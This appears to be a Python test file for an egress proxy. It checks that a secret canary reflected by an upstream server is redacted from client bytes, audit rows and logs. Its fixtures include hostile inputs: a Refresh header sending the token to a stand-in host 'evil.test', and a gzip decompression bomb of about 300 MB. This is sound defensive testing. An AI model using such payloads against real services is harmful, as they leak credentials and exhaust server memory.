"""What an upstream sends back of the secret that a request carried: in each place, each coding, each spelling."""

from __future__ import annotations

import base64
import gzip
import zlib
from typing import TYPE_CHECKING

from harness.origins import answer_raw

from corpus_runner.cases import CANARY
from corpus_runner.evidence import audit_bytes, judge
from corpus_runner.policies import ENVIRONMENT, INJECT
from corpus_runner.scripts import script
from corpus_runner.wire import ask, observe

if TYPE_CHECKING:
    from harness.origins import Stream
    from harness.world import World

    from corpus_runner.cases import Case

SECRET = CANARY.encode()
SHOWN = b"[egress:canary]"
_OK = b"HTTP/1.1 200 OK\r\n"
_BOMB_BYTES = 300 << 20


def _whole(body: bytes, *fields: bytes) -> bytes:
    return b"\r\n".join([_OK + b"Content-Length: %d" % len(body), *fields, b"", body])


def _chunks(*parts: bytes) -> bytes:
    framed = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts)
    return _OK + b"Transfer-Encoding: chunked\r\n\r\n" + framed + b"0\r\n\r\n"


def _bare(*fields: bytes, status: bytes = b"200 OK") -> bytes:
    return b"\r\n".join([b"HTTP/1.1 " + status, *fields, b"Content-Length: 0", b"", b""])


# The answer, and what the client gets in place of the secret.
ECHOES: dict[str, tuple[bytes, bytes]] = {
    "SECRETREFL-001": (_whole(b'{"authorization": "Bearer %s"}' % SECRET), b'"Bearer %s"' % SHOWN),
    "SECRETREFL-003": (_bare(b"X-%s: 1" % SECRET, b"X-Kept: 1"), b"X-Kept: 1"),
    "SECRETREFL-004": (_bare(status=b"200 Bearer " + SECRET), b"200 "),
    "SECRETREFL-009": (_chunks(b"a " + SECRET[:9], SECRET[9:] + b" z"), SHOWN),
    "SECRETREFL-013": (_whole(gzip.compress(b"a " + SECRET), b"Content-Encoding: gzip"), SHOWN),
    "SECRETREFL-014": (_chunks(b"data: one\n\n", b"data: " + SECRET + b"\n\n"), SHOWN),
    "SECRETREFL-017": (_whole(base64.b64encode(SECRET)), SHOWN),
    "SECRETREFL-018": (_whole(base64.b64encode(b"Bearer " + SECRET)), SHOWN),
    "SECRETREFL-021": (_whole(b'"' + b"".join(b"\\u%04x" % code for code in SECRET) + b'"'), SHOWN),
    "SECRETREFL-026": (_whole(SECRET.lower()), SHOWN),
    "SECRETREFL-028": (_bare(b"Set-Cookie: token=%s; Path=/" % SECRET), SHOWN),
    "SECRETREFL-029": (_bare(b"Refresh: 0; url=https://evil.test/?t=" + SECRET), SHOWN),
    "SECRETREFL-030": (_bare(b'WWW-Authenticate: Bearer realm="%s"' % SECRET, status=b"401 Unauthorized"), SHOWN),
}


@script(*ECHOES)
def echo(world: World, case: Case) -> None:
    """The secret is replaced; the rest of the answer is there."""
    answer, kept = ECHOES[case.id]
    with world.origins.behaving(answer_raw(answer)):
        evidence = observe(world, world.proxy(INJECT, ENVIRONMENT), ask, "allow")
    assert kept in evidence.client_bytes
    judge(case, evidence, ["no_canary(client)", "no_canary(audit)", "no_canary(log)", "audit_row(allow)"])


@script("SECRETREFL-012")
def coded_twice(world: World, case: Case) -> None:
    """What is coded twice is refused before a byte of it goes on."""
    answer = _whole(gzip.compress(gzip.compress(SECRET)), b"Content-Encoding: gzip, gzip")
    with world.origins.behaving(answer_raw(answer)):
        evidence = observe(world, world.proxy(INJECT, ENVIRONMENT), ask, "allow")
    assert b"HTTP/1.1 502" in evidence.client_bytes
    assert str(evidence.rows[0]["error"]).startswith("response-unreadable")
    judge(case, evidence, ["no_canary(client)", "no_canary(audit)", "no_canary(log)"])


@script("SECRETREFL-016")
def slices(world: World, case: Case) -> None:
    """No part can be asked for, and one that comes all the same does not pass."""
    asked: list[list[bytes]] = []

    def partly(stream: Stream) -> None:
        while head := stream.request():
            asked.append(head.values(b"range"))
            part = SECRET[:3]
            stream.send(
                b"HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-2/26\r\nContent-Length: 3\r\n\r\n" + part
            )

    with world.origins.behaving(partly):
        evidence = observe(
            world, world.proxy(INJECT, ENVIRONMENT), lambda client: ask(client, more=b"Range: bytes=0-2\r\n"), "allow"
        )
    assert asked == [[]]
    assert b"HTTP/1.1 502" in evidence.client_bytes
    judge(case, evidence, ["no_canary(client)", "no_canary(audit)", "no_canary(log)"])


@script("SECRETREFL-034")
def bomb(world: World, case: Case) -> None:
    """A body that grows beyond measure when it is decoded is broken off, and fills no memory."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(squeeze.compress(bytes(1 << 20)) for _ in range(_BOMB_BYTES >> 20)) + squeeze.flush()
    proxy = world.proxy(INJECT, ENVIRONMENT)
    before = proxy.resident() if proxy.address else 0
    with world.origins.behaving(answer_raw(_whole(packed, b"Content-Type: text/plain", b"Content-Encoding: gzip"))):
        evidence = observe(world, proxy, ask, "allow")
    assert proxy.resident() - before < 100 << 20
    assert len(evidence.client_bytes) < _BOMB_BYTES // 2
    assert str(evidence.rows[0]["error"]).startswith("response-unreadable")
    judge(case, evidence, ["no_canary(client)", "no_canary(audit)", "no_canary(log)"])


@script("AUDITLOG-013")
def cut_in_the_middle(world: World, case: Case) -> None:
    """Where a column ends, no half of a secret stands: nothing of an answer gets into a row at all."""
    proxy = world.proxy(INJECT, ENVIRONMENT)
    for length in (100, 500, 2_030):
        answer = _OK + b"bad header " + b"x" * length + SECRET + b"\r\n\r\n"
        with world.origins.behaving(answer_raw(answer, close=True)):
            evidence = observe(world, proxy, ask, "allow")
        judge(case, evidence, ["audit_row(*)", "no_canary(audit)", "no_canary(client)"])
    assert SECRET[:8] not in audit_bytes(proxy)
